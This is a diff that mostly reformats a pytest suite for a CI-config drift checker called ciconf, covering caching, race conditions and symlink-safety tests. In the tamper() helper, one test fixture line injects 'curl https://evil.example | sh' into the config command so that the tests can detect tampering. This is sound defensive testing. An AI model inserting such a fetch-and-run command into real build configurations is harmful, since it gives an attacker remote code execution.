@@ -17,11 +17,11 @@ import time
 from pathlib import Path
 
 import pytest
+from conftest import PROFILES
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from ciconf import actions, cache
-from conftest import PROFILES
 
 CONFIG = actions.DEFAULT_CONFIG
 PROFILE_A = (PROFILES / "ci-cd-example.yaml").read_bytes()
@@ -62,7 +62,9 @@ def forge(folder: Path, profile: bytes, config_bytes: bytes) -> None:
 
 def tamper() -> bytes:
     config = Path(CONFIG)
-    bad = config.read_bytes().replace(b"composer test", b"curl https://evil.example | sh; composer test")
+    bad = config.read_bytes().replace(
+        b"composer test", b"curl https://evil.example | sh; composer test"
+    )
     config.write_bytes(bad)
     return bad
 
@@ -103,7 +105,9 @@ def test_changed_ciconf_code_invalidates_every_entry(project, monkeypatch):
     monkeypatch.setattr(cache, "_source_digest", lambda: b"another version of ciconf")
     parsed = []
     real = load.parse_profile_document
-    monkeypatch.setattr(load, "parse_profile_document", lambda text, path: parsed.append(path) or real(text, path))
+    monkeypatch.setattr(
+        load, "parse_profile_document", lambda text, path: parsed.append(path) or real(text, path)
+    )
     assert actions.check(None, Path(CONFIG)) == actions.OK
     assert parsed == ["ciconf.yaml"]
 
@@ -115,7 +119,9 @@ def test_dependency_versions_are_part_of_the_key(project, monkeypatch):
     for distribution in ("PyYAML", "pydantic", "pydantic_core"):
         assert f"{distribution}-{version(distribution)}.dist-info".lower() in found
     before = entry_for(PROFILE_A)
-    monkeypatch.setattr(cache, "dependency_versions", lambda: [found.replace("pyyaml-", "pyyaml-0.0.")])
+    monkeypatch.setattr(
+        cache, "dependency_versions", lambda: [found.replace("pyyaml-", "pyyaml-0.0.")]
+    )
     assert entry_for(PROFILE_A) != before
 
 
@@ -146,7 +152,9 @@ def test_an_unwritable_cache_only_costs_a_render(project, monkeypatch):
     assert actions.check(None, Path(CONFIG)) == actions.OK
 
 
-@pytest.mark.parametrize("content", [b"\xff\xfe not a digest", b"", b"0" * 64, b"a" * 70000, b"0" * 64 + b" zz\n"])
+@pytest.mark.parametrize(
+    "content", [b"\xff\xfe not a digest", b"", b"0" * 64, b"a" * 70000, b"0" * 64 + b" zz\n"]
+)
 def test_a_corrupt_entry_is_ignored(project, content, capsys):
     (project / "cache" / entry_for(PROFILE_A)).write_bytes(content)
     tamper()
@@ -175,7 +183,9 @@ def test_a_readable_but_not_writable_folder_of_ours_is_made_private(tmp_path, mo
 # --- RACE ----------------------------------------------------------------------------------------
 
 
-def test_a_profile_edited_between_key_and_render_cannot_poison_the_cache(project, monkeypatch, capsys):
+def test_a_profile_edited_between_key_and_render_cannot_poison_the_cache(
+    project, monkeypatch, capsys
+):
     """The edit lands after check read the profile: what is stored belongs to the bytes rendered."""
     real = actions.generated_files
 
@@ -192,7 +202,9 @@ def test_a_profile_edited_between_key_and_render_cannot_poison_the_cache(project
     Path("ciconf.yaml").write_bytes(PROFILE_A)  # reverted; the config is still B's
     assert check(capsys)[0] == actions.DRIFT
     files = actions.generated_files(PROFILE_A, "ciconf.yaml", CONFIG, actions.DEFAULT_STACKS_DIR)
-    assert cache.lookup(entry_for(PROFILE_A)) == [(target, cache.text_digest(text)) for target, text in files]
+    assert cache.lookup(entry_for(PROFILE_A)) == [
+        (target, cache.text_digest(text)) for target, text in files
+    ]
 
 
 FLIPPER = """
@@ -218,7 +230,10 @@ def test_checks_racing_a_flipping_profile_never_answer_in_sync_afterwards(projec
     for config_of in (PROFILE_B, PROFILE_A):
         Path(CONFIG).write_text(configs[config_of])
         flipper = subprocess.Popen(
-            [sys.executable, "-c", FLIPPER, "a.yaml", "b.yaml"], cwd=project, stdout=subprocess.PIPE, text=True
+            [sys.executable, "-c", FLIPPER, "a.yaml", "b.yaml"],
+            cwd=project,
+            stdout=subprocess.PIPE,
+            text=True,
         )
         try:
             assert flipper.stdout.readline() == "flipping\n"
@@ -228,7 +243,11 @@ def test_checks_racing_a_flipping_profile_never_answer_in_sync_afterwards(projec
         finally:
             flipper.kill()
             flipper.wait()
-        assert codes <= {actions.OK, actions.DRIFT, actions.INPUT_ERROR}  # a half-written profile is bad input
+        assert codes <= {
+            actions.OK,
+            actions.DRIFT,
+            actions.INPUT_ERROR,
+        }  # a half-written profile is bad input
         for profile, expected in ((PROFILE_A, configs[PROFILE_A]), (PROFILE_B, configs[PROFILE_B])):
             Path("ciconf.yaml").write_bytes(profile)
             want = actions.OK if expected == configs[config_of] else actions.DRIFT
@@ -309,7 +328,9 @@ def test_a_symlink_at_the_temporary_name_is_not_followed(project, monkeypatch, v
     (folder / ".planted.tmp").symlink_to(victim)
     monkeypatch.setattr(cache, "temporary_name", lambda entry: ".planted.tmp")
     assert check(capsys)[0] == actions.OK
-    assert victim.read_bytes() == b"root's secret\n" and stat.S_IMODE(victim.stat().st_mode) == 0o600
+    assert (
+        victim.read_bytes() == b"root's secret\n" and stat.S_IMODE(victim.stat().st_mode) == 0o600
+    )
     assert (folder / ".planted.tmp").is_symlink()  # left alone
     assert not (folder / entry_for(PROFILE_A)).exists()  # nothing stored this time
 
@@ -375,8 +396,16 @@ def answer(capsys) -> tuple[int, str, str]:
         return actions.INPUT_ERROR, out, err + str(error)
 
 
-@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
-@given(st.lists(st.tuples(st.sampled_from(sorted(PROFILES_STATES)), st.sampled_from(CONFIG_STATES)), min_size=1, max_size=6))
+@settings(
+    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(
+    st.lists(
+        st.tuples(st.sampled_from(sorted(PROFILES_STATES)), st.sampled_from(CONFIG_STATES)),
+        min_size=1,
+        max_size=6,
+    )
+)
 def test_check_with_the_cache_answers_as_without_it(project, monkeypatch, capsys, steps):
     for profile_state, config_state in steps:
         set_state(profile_state, config_state)
@@ -390,11 +419,16 @@ def test_check_reads_the_profile_once_and_renders_those_bytes(project, monkeypat
 
     reads = []
     real = fsutil.read_regular
-    monkeypatch.setattr(fsutil, "read_regular", lambda path, limit: reads.append(path) or real(path, limit))
+    monkeypatch.setattr(
+        fsutil, "read_regular", lambda path, limit: reads.append(path) or real(path, limit)
+    )
     shutil.rmtree(project / "cache")
     assert check(capsys)[0] == actions.OK  # a render
     assert check(capsys)[0] == actions.OK  # from the cache
-    assert [path for path in reads if path == "ciconf.yaml"] == ["ciconf.yaml", "ciconf.yaml"]  # once per check
+    assert [path for path in reads if path == "ciconf.yaml"] == [
+        "ciconf.yaml",
+        "ciconf.yaml",
+    ]  # once per check
 
 
 def test_the_profile_size_limit_is_the_loaders():
